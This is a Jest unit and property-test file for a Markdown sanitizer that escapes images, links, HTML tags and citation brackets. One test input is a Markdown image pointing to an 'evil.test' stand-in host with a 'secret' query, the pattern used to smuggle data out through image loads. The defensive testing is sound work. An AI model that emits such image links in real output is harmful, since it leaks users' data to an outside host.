import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { safeMarkdown } from '../../../domain/text/safe-markdown.js';

describe('safeMarkdown', () => {
  test.each([
    ['Look ![](https://evil.test/?q=secret)', 'Look [] (https://evil.test/?q=secret)'],
    ['a [link](https://evil.test)', 'a [link] (https://evil.test)'],
    ['![a][b]\n\n[b]: https://evil.test', '[a][b]\n\n[b] : https://evil.test'],
    ['<img src=x> and </passage> and <!-- x -->', '\\<img src=x> and \\</passage> and \\<!-- x -->'],
    ['As [3] says', 'As \\[3\\] says'],
    ['already \\[3\\] and \\<b>', 'already \\[3\\] and \\<b>'],
    ['keep `a[0](x)` and ```\n<div>\n``` and 1 < 2', 'keep `a[0](x)` and ```\n<div>\n``` and 1 < 2'],
    ['**bold**, $x_1$, | a | b |', '**bold**, $x_1$, | a | b |'],
  ])('of %j is %j', (text, safe) => {
    expect(safeMarkdown(text)).toBe(safe);
  });

  test('leaves no image, link or mark outside of code, and is the same twice', () => {
    const piece = fc.constantFrom('![', '[', ']', '(', ')', 'http://x', '<b', '\\', ' ', '1', 'a', '\n', ':');
    fc.assert(
      fc.property(fc.array(piece), (pieces) => {
        const safe = safeMarkdown(pieces.join(''));
        expect(safe).not.toMatch(/!\[|(?<!\\)\]\(|(?<!\\)<b|(?<!\\)\[\d+(?<!\\)\]/);
        expect(safeMarkdown(safe)).toBe(safe);
      }),
    );
  });
});
